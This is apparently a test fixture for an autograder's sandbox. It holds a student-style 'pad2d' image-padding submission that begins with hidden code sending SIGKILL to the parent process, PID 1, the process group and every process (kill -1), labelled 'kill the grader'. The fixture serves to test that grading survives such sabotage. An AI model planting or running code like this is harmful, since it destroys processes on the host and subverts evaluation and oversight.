"""Kills its parent, its process group and every process it may signal (kill -1)."""
ASSIGNMENT = "ps1"
ATTACK = "kill the grader"
CELLS = {"pad2d": '''
import os, signal
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print("refused:", error)
try:
    os.killpg(0, signal.SIGKILL)
except OSError as error:
    print("refused:", error)
_ = os.kill(-1, signal.SIGKILL)

def pad2d(image, padding, mode="zeros"):
    image = np.asarray(image, dtype=np.float64)
    ph, pw = (padding, padding) if isinstance(padding, int) else padding
    H, W = image.shape
    rows, cols = np.arange(-ph, H + ph), np.arange(-pw, W + pw)
    if mode == "zeros":
        out = np.zeros((H + 2 * ph, W + 2 * pw))
        out[ph:ph + H, pw:pw + W] = image
        return out
    if mode == "replicate":
        rows, cols = np.clip(rows, 0, H - 1), np.clip(cols, 0, W - 1)
    else:
        rows, cols = np.abs(rows), np.abs(cols)
        rows = np.where(rows > H - 1, 2 * (H - 1) - rows, rows)
        cols = np.where(cols > W - 1, 2 * (W - 1) - cols, cols)
    return image[rows[:, None], cols[None, :]]
'''}
EXPECT = {}
MESSAGES = []
SIDE_EFFECTS = ["honest_scores_kept", "batch_complete"]
LIMITS = []
